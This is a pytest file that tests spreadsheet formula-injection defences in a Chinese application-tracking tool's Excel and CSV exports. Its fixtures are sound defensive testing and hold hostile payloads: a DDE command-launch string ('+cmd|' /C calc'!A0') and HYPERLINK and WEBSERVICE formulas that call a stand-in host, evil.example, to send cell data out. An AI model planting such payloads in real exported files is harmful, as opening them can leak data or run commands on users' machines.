"""Spreadsheet (formula) injection: text from mail never reaches staff's Excel/WPS as a formula.

Unit tests of ``safe_cell``, then the real writers (digest workbook, ``jiebang export`` CSV,
the 推荐汇总表 .xlsx) over a database seeded with hostile subjects, names and errors.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from sqlmodel import Session

from campaign import RoundPolicy
from notifier.models import OutboxMail
from tracker.reports.cells import safe_cell
from tracker.reports.workbook import (
    TableRow,
    digest_workbook,
    province_tables,
    submissions_csv,
    table_workbook,
)
from tracker.store import db
from tracker.store.tables import (
    CityPackage,
    DeficiencyRecord,
    RecommendationRow,
    StoredMessage,
    Submission,
    SubmissionVersion,
)

DANGEROUS = tuple("=+-@\t\r＝＋－＠")
LINK = '=HYPERLINK("http://evil.example/x","点我")'
SUBJECTS = ("=1+2*3", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3")
BELL = "\x07=1+1 响铃"  # openpyxl refuses the whole workbook over one such character


# --- the rule ------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["=1+2*3", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\tplain", "\rplain",
                                   LINK, "+cmd|' /C calc'!A0"])
def test_each_dangerous_prefix_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["＝1+2", "＋1", "－1", "＠SUM(A1)"])
def test_full_width_lookalikes_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["  =1+2", "\n=1", "\u3000=1", "\u00a0+1", " \t-1", "\u200b=1", "\ufeff@x"])
def test_a_trigger_behind_blanks_is_still_caught(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["山东省泉河数字经济研究院", "a=b", "1+1", "JB2025-0001", "0531-94710893",
                                   "wang@quanhe.example.cn", "   ", "'=already"])
def test_ordinary_text_is_untouched(value: str) -> None:
    assert safe_cell(value) == value


def test_control_characters_an_xlsx_cannot_hold_are_dropped_first() -> None:
    assert safe_cell("a\x07b\x00c\x1f") == "abc"
    assert safe_cell("\x01\x0b=1+1") == "'=1+1"
    assert safe_cell("line\nnext\tcol") == "line\nnext\tcol"


@pytest.mark.parametrize("value", [None, "", 0, 7, -2, 1.5, -0.5, True,
                                   datetime(2025, 1, 8, 10, 0), date(2025, 1, 20)])
def test_numbers_dates_and_blanks_stay_what_they_are(value: object) -> None:
    assert safe_cell(value) is value


# --- the real writers ----------------------------------------------------------------------------
def _hostile_database(db_url: str):  # noqa: ANN202 - an Engine
    engine = db.make_engine(db_url)
    db.upgrade(engine)
    at = datetime(2025, 1, 8, 2, 0, tzinfo=UTC)
    with Session(engine) as s:
        messages = [StoredMessage(content_key=f"k{i}", source="maildir:test", subject=subject,
                                  from_addr=f"-{i}@evil.example", received_at=at, state="failed",
                                  error="=WEBSERVICE(\"http://evil.example/\"&A1)", references=["@ref"])
                    for i, subject in enumerate((*SUBJECTS, BELL))]
        s.add_all(messages)
        s.flush()
        sub = Submission(round_code="JB2025", reference="JB2025-0001", lead_key="name:evil", unit=LINK,
                         uscc="+91370000MA3QH7K2", unit_city="=A1", direction=2, task_name=LINK,
                         task_types=["=tech"], partners=["@partner", "-联合单位"], channel="direct",
                         contacts=["=contact@evil.example"], versions=1, standing_version=1)
        s.add(sub)
        s.flush()
        s.add(SubmissionVersion(submission_id=sub.id, number=1, message_pk=messages[0].id, received_at=at))
        s.add(DeficiencyRecord(submission_id=sub.id, message_pk=messages[0].id, code="=CODE", severity="error",
                               message="+附件 =HYPERLINK(\"http://evil.example\") 无法打开", resolution="-resolved"))
        package = CityPackage(round_code="JB2025", city="济南市", message_pk=messages[1].id, sender="＠evil")
        s.add(package)
        s.flush()
        s.add(RecommendationRow(package_id=package.id, rank=1, direction=2, unit=LINK, task_name="＝1+1",
                                submission_id=sub.id))
        s.add(OutboxMail(kind="ack", to_addrs=["=to@evil.example"], subject="\t=1+1", text_body="", html_body="",
                         message_id="<o1@x>", reference="JB2025-0001", last_error="@error"))
        s.commit()
    return engine


def _assert_inert(values: list[object]) -> list[str]:
    texts = [v for v in values if isinstance(v, str)]
    for text in texts:
        assert not text.lstrip().startswith(DANGEROUS), repr(text)
        assert not text.startswith(DANGEROUS), repr(text)
    return texts


def _xlsx_cells(data: bytes) -> list[object]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    return values


def test_digest_workbook_and_csv_hold_no_formula(db_url: str) -> None:
    engine = _hostile_database(db_url)
    policy = RoundPolicy()
    with Session(engine) as s:
        tables = province_tables(s, policy)
        book = digest_workbook(s, policy, tables=tables, filled_on=date(2025, 1, 14))
        exported = submissions_csv(s, policy)

    values = _xlsx_cells(book)
    texts = _assert_inert(values)
    # the text is kept, only marked as text; the code's own numbers and times stay typed
    for subject in (*SUBJECTS, LINK, "＝1+1"):
        assert "'" + subject in texts
    assert "'=1+1 响铃" in texts
    assert any(isinstance(v, datetime) for v in values) and 1 in values  # 版本数, 推荐顺序, times
    wb = openpyxl.load_workbook(io.BytesIO(book))
    assert set(wb.sheetnames) >= {"申报汇总", "问题清单", "推荐汇总表-济南市", "邮件记录"}

    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    _assert_inert([v for row in rows for v in row])
    assert "'" + LINK in rows[1] and "'@partner、-联合单位" in rows[1]


def test_recommendation_table_workbook_holds_no_formula() -> None:
    row = TableRow(direction=2, rank=1, unit=LINK, partners=("+合作方",), task_name="=1+2*3",
                   task_types=("@类别",), contact="-张三", phone="+86 531 1234567")
    book = table_workbook("济南市", [row], date(2025, 1, 14))
    values = _xlsx_cells(book)
    _assert_inert(values)
    assert 1 in values  # 序号 and 推荐顺序 are numbers
    assert "'+86 531 1234567" in values and "'" + LINK in values
